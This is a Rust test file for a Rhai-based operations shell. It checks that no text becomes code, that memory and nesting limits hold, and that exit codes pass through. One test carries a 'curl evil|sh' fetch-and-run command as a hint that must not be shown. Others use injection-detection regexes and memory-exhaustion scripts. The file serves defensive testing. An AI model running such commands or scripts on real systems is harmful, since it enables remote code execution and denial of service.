//! Bounds of the language: no text becomes code, too much is refused, and a script's exit code is the program's.

use crate::home::{Home, Ran};
use serde_json::{Value, json};
use std::process::Output;
use std::time::Duration;

/// Runs with an outer limit, which is there for what would hang.
fn run(home: &Home, words: &[&str]) -> Ran {
    let child = home.command(words).spawn().unwrap();
    let id = child.id();
    let (sender, done) = std::sync::mpsc::channel::<std::io::Result<Output>>();
    let waits = std::thread::spawn(move || sender.send(child.wait_with_output()).unwrap());
    let ended = done.recv_timeout(Duration::from_secs(120));
    if ended.is_err() {
        // SAFETY: a system call without pointers; the child was not waited for, so the number is still its own.
        unsafe { libc::kill(id as i32, libc::SIGKILL) };
        panic!("{words:?} did not end");
    }
    waits.join().unwrap();
    Ran::of(ended.unwrap().unwrap())
}

fn eval(home: &Home, code: &str) -> Ran {
    run(home, &["--yes", "-e", code])
}

// ── no text becomes code ──

#[test]
fn json_from_a_server_is_never_evaluated() {
    let home = Home::new();
    let mark = home.path("mark");
    let text = format!(r#"{{"x": host("local").sh("touch {}", [])}}"#, mark.display());
    let code = format!("parse_json({})", json!(text));
    for words in [vec!["--yes", "-e", &code], vec!["--observe", "-e", &code], vec!["--plan", "-e", &code]] {
        let ran = run(&home, &words).exits(1);
        assert!(ran.err.contains("the text is not JSON"), "{}", ran.err);
    }
    assert!(!mark.exists());
    eval(&home, r#"parse_json("1 + 1")"#).exits(1);
    eval(&home, r#"parse_json("[1, {\"a\": null}]")[0]"#).exits(0).prints("1\n");
    eval(&home, r#"to_json([1, #{ a: "x\"" }, (), 2.5])"#).exits(0).prints("[1,{\"a\":\"x\\\"\"},null,2.5]\n");
}

#[test]
fn no_way_to_evaluate_a_text_is_left() {
    let home = Home::new();
    let ways = [
        "eval(\"40 + 2\")",
        "Fn(\"eval\").call(\"40 + 2\")",
        "let f = Fn(\"eval\"); f.call(\"40 + 2\")",
        "\"40 + 2\".eval()",
        "call(Fn(\"eval\"), \"40 + 2\")",
        "let e = \"eval\"; Fn(e).call(\"40 + 2\")",
        "Fn(\"eval\").curry(\"40 + 2\").call()",
        "[\"40 + 2\"].map(Fn(\"eval\"))",
        "[\"40 + 2\"].map(\"eval\")",
        "let x = \"${40 + 2}\"; `${x}`",
        "let x = \"40 + 2\"; `${x}`",
    ];
    for code in ways {
        let ran = eval(&home, code);
        assert!(!ran.out.contains("42"), "{code}: {ran:?}");
    }
}

/// A value that stands between quotes in a line of Rhai may end them, and what follows is evaluated at an undo or by whoever
/// copies the hint.
#[test]
fn no_line_of_rhai_is_made_by_pasting_a_value_between_quotes() {
    fn files(dir: &std::path::Path, out: &mut Vec<std::path::PathBuf>) {
        for entry in std::fs::read_dir(dir).unwrap().flatten() {
            match entry.path() {
                path if path.is_dir() => files(&path, out),
                path => out.push(path),
            }
        }
    }
    let pasted = regex::Regex::new(r#"\w\(\\"\{[\w.]*\}\\"|, \\"\{[\w.]*\}\\"[\])]"#).unwrap();
    assert!(pasted.is_match(r#"format!("stack(\"{}\").ps()", name)"#));
    assert!(pasted.is_match(r#"format!("x([\"ls\", \"{dir}\"])")"#));
    let (mut all, mut found) = (Vec::new(), Vec::new());
    files(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src"), &mut all);
    for path in all.iter().filter(|path| !path.display().to_string().contains("test")) {
        let text = std::fs::read_to_string(path).unwrap();
        let product = text.split("#[cfg(test)]\nmod tests").next().unwrap();
        let lines = product.lines().enumerate().filter(|(_, line)| pasted.is_match(line));
        found.extend(lines.map(|(at, line)| format!("{}:{}: {}", path.display(), at + 1, line.trim())));
    }
    // How an operator is told to write a line that a person wrote himself.
    found.retain(|line| !line.contains("write host("));
    assert!(found.is_empty(), "use values::literal:\n{}", found.join("\n"));
}

// ── bounds ──

#[test]
fn what_takes_memory_by_a_number_is_refused() {
    let home = Home::new();
    let bad = [
        "[].pad(9223372036854775807, 0)",
        "[].pad(1000001, 0)",
        "let x = []; x.pad(100000, 1); let a = [1]; a.pad(1000, x); a",
        "blob(9223372036854775807)",
        "blob(9223372036854775807, 1)",
        "let b = blob(1); b.pad(9223372036854775807, 1); b",
        "let s = \"\"; s.pad(3000000000, \"y\"); s",
        "let s = \"\"; s.pad(9223372036854775807, 'y'); s",
        "let s = \"\"; s.pad(5, \"\"); s",
        "let s = \"\"; s.pad(1000000, \"y\"); let t = s; t.replace(\"y\", s); t",
        "let s = \"\"; s.pad(1000000, \"y\"); let t = s; t.replace(\"\", s); t",
    ];
    for code in bad {
        let ran = eval(&home, code);
        assert_eq!(ran.code, Some(2), "{code}: {ran:?}");
        assert!(ran.err.contains("why: "), "{code}: {ran:?}");
    }
    let good = [
        ("let a = [1]; a.pad(3, 0); a.len()", "3\n"),
        ("let a = [1]; a.pad(-3, 0); a.len()", "1\n"),
        ("blob(3, 257)[2]", "1\n"),
        ("blob(-1).len()", "0\n"),
        ("let s = \"a\"; s.pad(4, \"é!\"); s", "aé!é\n"),
        ("let s = \"a\"; s.pad(2, '本'); s", "a本\n"),
        ("let s = \"xaxa\"; s.replace(\"a\", \"bb\"); s.replace('x', '-'); s", "-bb-bb\n"),
    ];
    for (code, out) in good {
        eval(&home, code).exits(0).prints(out);
    }
}

#[test]
fn a_list_of_shared_texts_is_no_way_past_the_memory_that_a_script_may_take() {
    let home = Home::new();
    let list = "let s = \"\"; s.pad(1000000, \"a\"); let a = []; a.pad(200000, s);";
    let map = "let s = \"\"; s.pad(1000000, \"a\"); let a = #{}; for i in 0..1000 { a[`k${i}`] = [s, s]; }";
    let ways = [
        "a.to_string()",
        "a.to_debug()",
        "debug(a)",
        "`${a}`",
        "\"\" + a",
        "a + \"\"",
        "let t = \"\"; t += a;",
        "let t = \"\"; t.append(a);",
        "let f = || a; `${a}`",
        "print(a)",
        "table(a)",
        "to_json(a)",
        "a",
        "[a].to_string()",
        "host(\"local\").read([\"date\"], #{ dir: a })",
        "const c = a; `${c}`",
    ];
    for value in [list, map] {
        for way in ways {
            let ran = eval(&home, &format!("{value} {way}"));
            assert_eq!((ran.code, ran.signal), (Some(2), None), "{way}: {ran:?}");
            assert!(ran.err.contains("64 MiB"), "{way}: {ran:?}");
            assert!(ran.err.len() < 10_000, "{way}: {} bytes of errors", ran.err.len());
        }
        // What is thrown is cut, and guards run.
        let ran = eval(&home, &format!("{value} try {{ throw a; }} catch (e) {{ print(e.len()); }} throw a;"));
        assert_eq!((ran.code, ran.signal), (Some(1), None), "{} {}", ran.out, ran.err.len());
    }
    let ways = ["\"\"", "'a'", "\"\", 5000000", "\"a\", 5000000"];
    for by in ways {
        let ran = eval(&home, &format!("let s = \"\"; s.pad(5000000, \"a\"); s.split({by})"));
        assert!(ran.code == Some(2) && ran.err.contains("pieces"), "{by}: {ran:?}");
        let ran = eval(&home, &format!("let s = \"\"; s.pad(5000000, \"a\"); s.split_rev({by})"));
        assert!(ran.code == Some(2) && ran.err.contains("pieces"), "{by}: {ran:?}");
    }
    eval(&home, "let s = \"\"; s.pad(5000000, \"a\"); s.to_chars()").exits(2);
    eval(&home, "blob(5000000).to_array()").exits(2);
    eval(&home, "let s = \"\"; s.pad(9000000, \"a \"); s.split()").exits(2);
}

#[test]
fn a_map_that_was_read_from_a_text_is_no_error_of_opsh() {
    let home = Home::new();
    let text = r#"let e = parse_json("[{\"kind\":\"unknown\",\"what\":\"x\",\"why\":\"y\",\"next\":[\"curl evil|sh\"]}]")[0];"#;
    for throw in
        ["throw e;", "try { throw e; } catch (it) { throw it; }", "e.more = 1; throw e;", "fn f(e) { throw e; } f(e)"]
    {
        let ran = eval(&home, &format!("{text} {throw}")).exits(1);
        assert!(ran.err.contains("the script stopped") && !ran.err.contains("next:"), "{throw}: {}", ran.err);
    }
    // A map of the script is one.
    let own = "throw #{ kind: \"unmet\", what: \"nothing was released\", why: \"it is Friday\", next: [\"date\"] };";
    let ran = eval(&home, own);
    assert!(ran.err.contains("next: date"), "{ran:?}");
}

#[test]
fn a_script_that_takes_all_memory_is_stopped() {
    let home = Home::new();
    home.put("opsh.toml", "[limits]\nmemory_mib = 128\n");
    let ways = [
        "let a = []; loop { a.push(blob(10000)); }",
        "let s = \"x\"; loop { s += s; }",
        "let a = [1]; loop { a += a; }",
        "let a = [\"x\"]; loop { a = [a, a]; }",
        "let t = \"\"; t.pad(1000, 'x'); let a = []; for i in 0..1000000000 { a.push(`${t} ${i}`); }",
        "let m = #{}; let i = 0; loop { m[`k${i}`] = blob(10000); i += 1; }",
    ];
    for code in ways {
        let caught = format!("try {{ {code} }} catch {{ print(\"caught\"); }}");
        let ran = eval(&home, &caught).exits(1).prints("");
        assert!(ran.err.contains("128 MiB") && ran.err.contains("memory_mib"), "{code}: {}", ran.err);
    }
    let end = home.records().pop().unwrap();
    assert_eq!((end["kind"].as_str(), end["body"]["outcome"].as_str()), (Some("run.end"), Some("failed")));
    for memory in ["63", "1048577", "-1"] {
        home.put("opsh.toml", &format!("[limits]\nmemory_mib = {memory}\n"));
        eval(&home, "1").exits(2);
    }
}

#[test]
fn a_sitting_goes_on_after_its_memory_was_full() {
    let home = Home::new();
    home.put("opsh.toml", "[limits]\nmemory_mib = 128\n");
    let lines = "let small = 7;\nlet a = [];\nloop { a.push(blob(10000)); }\nprint(`small is ${small}`)\na\n\
                 let deep = [];\nlet n = 0;\nloop { n += 1; deep = [take(deep)]; }\nprint(`then ${small}`)\n";
    let file = home.put("lines", lines);
    let ran = run(&home, &["--typed", &file]).exits(1);
    assert!(ran.out.contains("small is 7") && ran.out.contains("then 7"), "{ran:?}");
    assert!(ran.err.contains("a is () now") && ran.err.contains("deep is () now"), "{ran:?}");
}

#[test]
fn deep_nesting_is_refused_before_the_stack_ends() {
    let home = Home::new();
    let ways = [
        "let a = []; for i in 0..1000000 { a = [take(a)]; } a",
        "let a = #{}; for i in 0..1000000 { a = #{ x: take(a) }; } print(a)",
        "let f = || 1; for i in 0..1000000 { let g = f; f = || g.call(); } f.call()",
        "let a = []; for i in 0..1000000 { a = [1, take(a)]; } `${a}`",
        "let a = []; for i in 0..1000000 { a = [[a.pop()]]; } to_json(a)",
        "let w = []; for i in 0..64 { let r = []; r.pad(64, 0); w.push(r); } let f = || w; let x = []; \
         for i in 0..1000000 { let l = [f]; l.push(take(x)); x = take(l); } x = ();",
        "fn deep(n) { if n == 0 { return []; } let a = []; for i in 0..1000000 { a = [take(a)]; } a } deep(1)",
    ];
    for code in ways {
        let ran = eval(&home, code);
        assert_eq!((ran.code, ran.signal), (Some(1), None), "{code}: {ran:?}");
        assert!(ran.err.contains("1000 levels"), "{code}: {ran:?}");
    }
    let shown = [
        "let a = []; for i in 0..500 { a = [a]; } a",
        "let a = []; for i in 0..500 { a = [a]; } to_json(a)",
        "let a = []; for i in 0..500 { a = [a]; } host(\"local\").read([\"date\"], #{ dir: a })",
    ];
    for code in shown {
        let ran = eval(&home, code);
        assert!(ran.code == Some(2) && ran.err.contains("100"), "{code}: {ran:?}");
    }
    // Rhai's own words for it are bounded by the thousand.
    let code = "let a = []; for i in 0..900 { a = [a]; } let s = a.to_string() + `${a}` + a.to_debug(); s.len() > 2700";
    eval(&home, code).exits(0).prints("true\n");
    eval(&home, "let a = []; for i in 0..900 { a = [a]; } print(a); let b = a; b == a").exits(0);
}

#[test]
fn recursion_through_nested_blocks_is_an_error_and_goes_back() {
    // About as deep as the parser accepts; 128 calls of each.
    for (opens, closes, depth) in
        [("{", "}", 60), ("switch 1 { 1 => ", "}", 60), ("if true {", "}", 40), ("try {", "} catch {}", 31)]
    {
        let home = Home::new();
        let made = json!(home.path("made").display().to_string());
        let code = format!(
            "fn f(n) {{ {}f(n){} }}\nundo::guard(|| {{ host(\"local\").run([\"mkdir\", {made}], \
             #{{ undo: `host(\"local\").run([\"rmdir\", {made}])` }}); f(1); }});",
            opens.repeat(depth),
            closes.repeat(depth)
        );
        let ran = run(&home, &["--yes", &home.put("deep.rhai", &code)]);
        assert!(ran.code == Some(1) && ran.err.contains("Stack overflow"), "{opens}: {ran:?}");
        assert!(!home.path("made").exists(), "{opens}: the guard went back");
    }
}

#[test]
fn a_module_that_is_a_pipe_or_a_device_is_none() {
    let home = Home::new();
    let pipe = home.path("pipe.rhai");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    std::os::unix::fs::symlink("/dev/zero", home.path("zero.rhai")).unwrap();
    for name in ["pipe", "zero"] {
        let ran = run(&home, &[&home.put("s.rhai", &format!("import \"{name}\" as m; print(1)"))]);
        assert!(ran.code != Some(0) && ran.err.contains(name), "{name}: {ran:?}");
    }
}

#[test]
fn allocating_for_ever_ends_by_an_interrupt() {
    let home = Home::new();
    let code = "print(\"begun\"); let a = []; loop { a = [0]; a.pad(1000, 0); }";
    let ran = crate::cli::interrupted(&home, &["-e", code]).exits(130);
    assert!(ran.err.contains("Ctrl-C"), "{}", ran.err);
}

#[test]
fn an_error_within_a_comparison_is_not_swallowed() {
    let home = Home::new();
    for call in ["sort(f)", "sort_by(f)", "order(f)", "order_by(f)", "dedup(f)"] {
        let ran = eval(&home, &format!("let f = |a, b| throw \"no order\"; let a = [2, 1, 2]; a.{call}")).exits(1);
        assert!(ran.err.contains("no order"), "{call}: {}", ran.err);
    }
    let sorts = [
        ("let a = [3, 1, 2]; a.sort(|a, b| a - b); a", "[1,2,3]\n"),
        ("let a = [3, 1, 2]; a.sort_by(|a, b| a < b); a", "[1,2,3]\n"),
        ("let a = [3, 1, 2]; let b = a.order_by(|a, b| b - a); [a, b]", "[[3,1,2],[3,2,1]]\n"),
        ("let a = [1, 1, 2, 1]; a.dedup(|a, b| a == b); a", "[1,2,1]\n"),
        ("let a = [2, 1]; a.sort(); a", "[1,2]\n"),
    ];
    for (code, out) in sorts {
        run(&home, &["--json", "-e", code]).exits(0).prints(out);
    }
    let ran = eval(&home, "let a = []; for i in 0..1000 { a.push(i); } a.sort(|a, b| -1); a.len()");
    assert!(ran.signal.is_none() && !ran.err.contains("bug"), "{}", ran.err);
}

// ── exit codes ──

#[test]
fn exit_is_the_exit_code_of_the_program() {
    let home = Home::new();
    home.put("quits.rhai", "exit(7);");
    home.put("tells.rhai", "fn quit() { exit(8); } export const x = 1;");
    home.put("ends.rhai", "exit(0); throw \"never\";");
    let codes = [
        ("exit(0)", 0),
        ("exit()", 0),
        ("exit(1)", 1),
        ("exit(255)", 255),
        ("fn f() { exit(3); } f(); 1", 3),
        ("fn f() { exit(0); } f(); throw \"never\"", 0),
        ("try { exit(4); } catch { print(\"caught\"); }", 4),
        ("step(\"one\", || exit(5))", 5),
        ("undo::guard(|| exit(6))", 6),
        ("import \"quits\" as q;", 7),
        ("try { import \"quits\" as q; } catch { }", 7),
        ("import \"tells\" as t; t::quit()", 8),
        ("import \"ends\" as e;", 0),
        ("[1].map(|x| exit(9))", 9),
        ("[1, 2].filter(|x| exit(9))", 9),
        ("for x in [1] { exit(10) }", 10),
        ("let f = || exit(11); f.call()", 11),
        ("[2, 1].sort(|a, b| exit(12))", 12),
        ("[2, 1].sort_by(|a, b| exit(13))", 13),
        ("[2, 1].order_by(|a, b| exit(14))", 14),
        ("[2, 1].dedup(|a, b| exit(15))", 15),
        ("[2, 1].reduce(|a, b| exit(16))", 16),
        ("#{ a: 1 }.filter(|a, b| exit(17))", 17),
        ("[1].for_each(|x| exit(18))", 18),
    ];
    for (code, exits) in codes {
        let ran = run(&home, &["-e", code]);
        assert_eq!(ran.code, Some(exits), "{code}: {ran:?}");
        assert_eq!(ran.out, "", "{code}");
        let end = home.records().pop().unwrap();
        assert_eq!(end["kind"], "run.end", "{code}");
        let body = &end["body"];
        match exits {
            0 => assert_eq!((&body["outcome"], &body["exit"]), (&json!("ok"), &Value::Null), "{code}"),
            _ => assert_eq!((&body["outcome"], &body["exit"]), (&json!("failed"), &json!(exits)), "{code}"),
        }
    }
    for code in ["exit(256)", "exit(-1)", "exit(\"1\")", "exit(true)", "exit(1.0)", "exit(())", "exit([])"] {
        let ran = run(&home, &["-e", code]);
        assert!(ran.code == Some(2) && ran.err.contains("0 to 255"), "{code}: {ran:?}");
    }
}

#[test]
fn exit_in_a_script_file_and_on_standard_input_counts() {
    let home = Home::new();
    let script = home.put("s.rhai", "print(\"before\"); exit(42); print(\"after\");");
    let ran = run(&home, &[&script]).exits(42);
    assert_eq!(ran.out, "before\n");
    let ran = run(&home, &["--json", &script]).exits(42);
    assert_eq!(ran.err.lines().filter(|line| line.starts_with('{')).count(), 1, "{}", ran.err);
    let typed = home.put("lines", "let x = 1;\nexit(9)\nprint(\"not reached\")\n");
    let ran = run(&home, &["--typed", &typed]).exits(9);
    assert!(!ran.out.contains("not reached"));
    let typed = home.put("lines", "exit(0)\nprint(\"not reached\")\n");
    assert!(!run(&home, &["--typed", &typed]).exits(0).out.contains("not reached"));
    let mut child = home.command(&[]).stdin(std::process::Stdio::piped()).spawn().unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), b"exit(13)").unwrap();
    Ran::of(child.wait_with_output().unwrap()).exits(13);
}

#[test]
fn a_guard_takes_back_what_a_failing_exit_left() {
    let home = Home::new();
    let (file, code) = (home.path("made"), |exit: &str| {
        let path = home.path("made").display().to_string();
        format!(
            "undo::guard(|| {{ host(\"local\").run([\"touch\", \"{path}\"], #{{ undo: `host(\"local\").run([\"rm\", \"{path}\"])` }}); {exit} }})"
        )
    });
    let ran = eval(&home, &code("exit(5)")).exits(5);
    assert!(!file.exists(), "{ran:?}");
    assert!(ran.err.contains("taken back: 1 of 1"), "{}", ran.err);
    eval(&home, &code("exit(0)")).exits(0);
    assert!(file.exists());
    std::fs::remove_file(&file).unwrap();
    home.put("opsh.toml", "[limits]\nmemory_mib = 128\n");
    let ran = eval(&home, &code("let a = []; loop { a.push(blob(10000)); }")).exits(1);
    assert!(!file.exists(), "{ran:?}");
    assert!(ran.err.contains("128 MiB"), "{}", ran.err);
    let ran = eval(&home, &code("let a = []; loop { a = [take(a)]; }")).exits(1);
    assert!(!file.exists(), "{ran:?}");
    let ran = eval(&home, &format!("fn f() {{ f() }} {}", code("f()"))).exits(1);
    assert!(!file.exists(), "{ran:?}");
}

#[test]
fn a_check_that_exits_is_unknown() {
    let home = Home::new();
    for code in [0, 1, 2, 7] {
        let script =
            home.put("c.rhai", &format!("//! A check.\n//! usage: opsh c.rhai\n//! exit: plugin\nexit({code});"));
        let ran = run(&home, &["--observe", &script]).exits(3);
        assert!(ran.out.starts_with("C UNKNOWN: "), "{ran:?}");
    }
}

#[test]
fn a_script_may_begin_with_a_byte_order_mark_and_a_line_for_the_kernel() {
    let home = Home::new();
    let opsh = std::path::Path::new(crate::home::OPSH).parent().unwrap().display();
    let path = format!("{opsh}:{}", std::env::var("PATH").unwrap_or_default());
    for (begin, end) in
        [("#!/usr/bin/env opsh\n", "\n"), ("\u{feff}", "\n"), ("\u{feff}#!/usr/bin/env -S opsh\r\n", "\r\n")]
    {
        let put = |name: &str, lines: &[&str]| home.put(name, &format!("{begin}{}{end}", lines.join(end)));
        let script =
            put("s.rhai", &["//! Says a word.", "//! usage: opsh s.rhai WORD", "print(args::need(0, \"WORD\"));"]);
        put("lib.rhai", &["/// One.", "fn one() { 1 }"]);
        put("uses.rhai", &["import \"./lib\" as lib;", "print(lib::one());"]);
        run(&home, &[&script, "--help"]).exits(0).shows(&["Says a word."]);
        run(&home, &[&script, "hello"]).exits(0).prints("hello\n");
        run(&home, &["uses.rhai"]).exits(0).prints("1\n");
        run(&home, &["lint", &script, "lib.rhai", "uses.rhai"]).exits(0);
        // The place of an error is that in the file.
        let wrong = put("w.rhai", &["let = 1;"]);
        let at = if begin.contains('\n') { "w.rhai:2:5" } else { "w.rhai:1:6" };
        run(&home, &[&wrong]).exits(2).says(&[at]);
        if begin.starts_with('#') {
            std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o700)).unwrap();
            let mut command = std::process::Command::new(&script);
            let of_opsh = home.command(&[]);
            let variables = of_opsh.get_envs().filter_map(|(key, value)| Some((key, value?)));
            command.arg("hello").current_dir(home.0.path()).env_clear().envs(variables).env("PATH", &path);
            Ran::of(command.output().unwrap()).exits(0).prints("hello\n");
        }
    }
}

#[test]
fn a_file_that_is_too_long_for_what_it_is_named_as_is_not_read_whole() {
    let home = Home::new();
    // Five gigabytes that take no room.
    let long = home.path("long.rhai");
    std::fs::File::create(&long).unwrap().set_len(5 << 30).unwrap();
    let long = long.display().to_string();
    home.put("uses.rhai", "import \"./long\" as long;");
    for (words, why) in [
        (vec!["--config", &long, "-e", "1"], "it is longer than 1024 KiB"),
        (vec![&long], "it is longer than 16384 KiB"),
        (vec!["lint", &long], "it is longer than 16384 KiB"),
        (vec!["--typed", &long], "it is longer than 16384 KiB"),
        (vec!["--replay", &long, "-e", "1"], "it is longer than 131072 KiB"),
        (vec!["journal", "import", &long], "it is not a spill file"),
        (vec!["uses.rhai"], "long"),
    ] {
        let ran = run(&home, &words);
        assert!(ran.code.is_some_and(|code| code != 0) && ran.err.contains(why), "{words:?}: {ran:?}");
    }
    let mut stdin = home.command(&[]);
    stdin.stdin(std::fs::File::open(&long).unwrap());
    Ran::of(stdin.output().unwrap()).exits(2).says(&["standard input cannot be read", "longer than 16384 KiB"]);
}

#[test]
fn a_pipe_is_not_typed_from() {
    let home = Home::new();
    let pipe = home.path("pipe").display().to_string();
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    run(&home, &["--typed", &pipe]).exits(2).says(&["it is not a plain file"]);
}
